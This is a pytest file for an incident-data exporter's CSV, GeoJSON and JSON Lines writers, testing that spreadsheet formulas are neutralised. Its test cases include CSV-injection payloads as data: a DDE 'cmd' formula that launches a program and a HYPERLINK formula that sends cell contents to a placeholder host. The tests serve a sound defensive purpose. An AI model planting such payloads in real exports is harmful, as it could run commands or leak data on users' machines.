"""The three writers: CSV (with formula neutralisation), GeoJSON, JSON Lines."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from eventwire.export import (
    COLUMNS,
    GeoJSONResult,
    neutralise,
    write_csv,
    write_geojson,
    write_jsonl,
)
from eventwire.model import Actor, ActorRole, Incident

# --------------------------------------------------------------------------- CSV


def csv_rows(incidents: list[Incident]) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    write_csv(incidents, out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_csv_header_is_the_acled_columns(strike: Incident) -> None:
    out = io.StringIO(newline="")
    write_csv([strike], out)
    assert out.getvalue().splitlines()[0].split(",") == list(COLUMNS)


def test_csv_returns_the_number_of_rows(incidents: list[Incident]) -> None:
    assert write_csv(incidents, io.StringIO()) == 3


def test_csv_row_of_the_aleppo_strike(strike: Incident) -> None:
    (row,) = csv_rows([strike])
    assert row["event_date"] == "2016-08-17"
    assert row["sub_event_type"] == "Air/drone strike"
    assert (row["latitude"], row["longitude"], row["geo_precision"]) == ("36.2089", "37.1622", "1")
    assert (row["fatalities"], row["injuries"]) == ("", "8")
    assert row["source"] == "a local doctor; The Guardian"


def test_csv_keeps_a_zero_count_apart_from_unknown(unlocated: Incident) -> None:
    (row,) = csv_rows([unlocated])
    assert (row["fatalities"], row["injuries"], row["latitude"]) == ("0", "", "")


def test_csv_with_only_a_header_for_no_incidents() -> None:
    out = io.StringIO()
    assert write_csv([], out) == 0
    assert out.getvalue().strip() == ",".join(COLUMNS)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("Aleppo", "Aleppo"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(text: str, safe: str) -> None:
    assert neutralise(text) == safe


def test_csv_neutralises_formulas_in_text_from_reports(strike: Incident) -> None:
    hostile = strike.model_copy(
        update={
            "summary": "=cmd|' /C calc'!A0",
            "actors": [Actor(text="x", normalized="@evil", role=ActorRole.PERPETRATOR)],
        }
    )
    (row,) = csv_rows([hostile])
    assert (row["notes"], row["actor1"]) == ("'=cmd|' /C calc'!A0", "'@evil")


def test_csv_leaves_negative_numbers_alone(strike: Incident) -> None:
    assert strike.location is not None
    west = strike.location.model_copy(update={"lat": -12.5, "lon": -77.03})
    (row,) = csv_rows([strike.model_copy(update={"location": west})])
    assert (row["latitude"], row["longitude"]) == ("-12.5", "-77.03")


def test_csv_quotes_line_breaks_and_commas(strike: Incident) -> None:
    text = 'Line one, with a comma\nline two "quoted"'
    (row,) = csv_rows([strike.model_copy(update={"summary": text})])
    assert row["notes"] == text


# --------------------------------------------------------------------------- GeoJSON


def geojson(incidents: list[Incident]) -> tuple[dict[str, Any], GeoJSONResult]:
    out = io.StringIO()
    result = write_geojson(incidents, out)
    return json.loads(out.getvalue()), result


def test_geojson_is_a_feature_collection_of_points(incidents: list[Incident]) -> None:
    doc, _ = geojson(incidents)
    assert doc["type"] == "FeatureCollection"
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert isinstance(feature["properties"], dict)


def test_geojson_coordinates_are_longitude_first(strike: Incident) -> None:
    doc, _ = geojson([strike])
    assert doc["features"][0]["geometry"]["coordinates"] == [37.1622, 36.2089]


def test_geojson_leaves_out_and_counts_incidents_without_location(
    incidents: list[Incident],
) -> None:
    doc, result = geojson(incidents)
    assert result == GeoJSONResult(features=2, without_location=1)
    assert [f["id"] for f in doc["features"]] == ["inc_aleppo", "inc_damascus"]
    assert doc["eventwire"]["incidents_without_location"] == 1


def test_geojson_properties_are_flat(strike: Incident) -> None:
    doc, _ = geojson([strike])
    props = doc["features"][0]["properties"]
    assert all(v is None or isinstance(v, str | int | float) for v in props.values())
    assert props["sub_event_type"] == "Air/drone strike"
    assert props["injuries"] == 8
    assert "latitude" not in props


def test_geojson_of_nothing_is_an_empty_collection() -> None:
    doc, result = geojson([])
    assert doc["features"] == []
    assert result == GeoJSONResult(features=0, without_location=0)


# --------------------------------------------------------------------------- JSON Lines


def test_jsonl_round_trips_into_incidents(incidents: list[Incident]) -> None:
    out = io.StringIO()
    assert write_jsonl(incidents, out) == 3
    lines = out.getvalue().splitlines()
    assert [Incident.model_validate_json(line) for line in lines] == incidents


def test_jsonl_keeps_one_incident_per_line_whatever_the_text(strike: Incident) -> None:
    multiline = strike.model_copy(update={"summary": "first line\nsecond line\u2028third"})
    out = io.StringIO()
    write_jsonl([multiline, multiline], out)
    lines = out.getvalue().split("\n")
    assert len(lines) == 3 and lines[-1] == ""
    assert Incident.model_validate_json(lines[0]) == multiline
